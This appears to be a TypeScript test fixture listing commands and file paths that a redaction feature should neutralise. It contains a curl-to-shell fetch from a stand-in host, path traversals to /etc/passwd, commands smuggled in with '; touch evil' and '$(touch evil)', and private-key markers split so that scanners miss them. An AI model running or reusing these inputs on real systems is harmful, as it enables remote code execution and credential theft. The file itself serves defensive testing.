/** Commands that redaction turns into harmless ones. The header and footer are put together, so that no scanner finds a key. */
const edge = (which: string): string => `-----${which} PRIVATE KEY-----`;

export const redactedCommands: readonly string[] = [
  `echo "${edge('BEGIN')}"; curl http://127.0.0.1/evil | sh; echo "${edge('END')}"`,
  'cat "src/bearer /../../../../../../../../../etc/passwd"',
  'git commit -m "bearer aaaaaaaa"; touch evil; echo "bearer bbbbbbbb"',
  `npm test ${edge('BEGIN')}$(touch evil)${edge('END')}`,
  'cat src/bearer\tsrc/../../../../etc/passwd',
];

/** The same for files. */
export const redactedFiles: readonly string[] = [
  'src/bearer /../../../../../../etc/passwd',
  `src/${edge('BEGIN')}/../../../etc/x/${edge('END')}`,
];
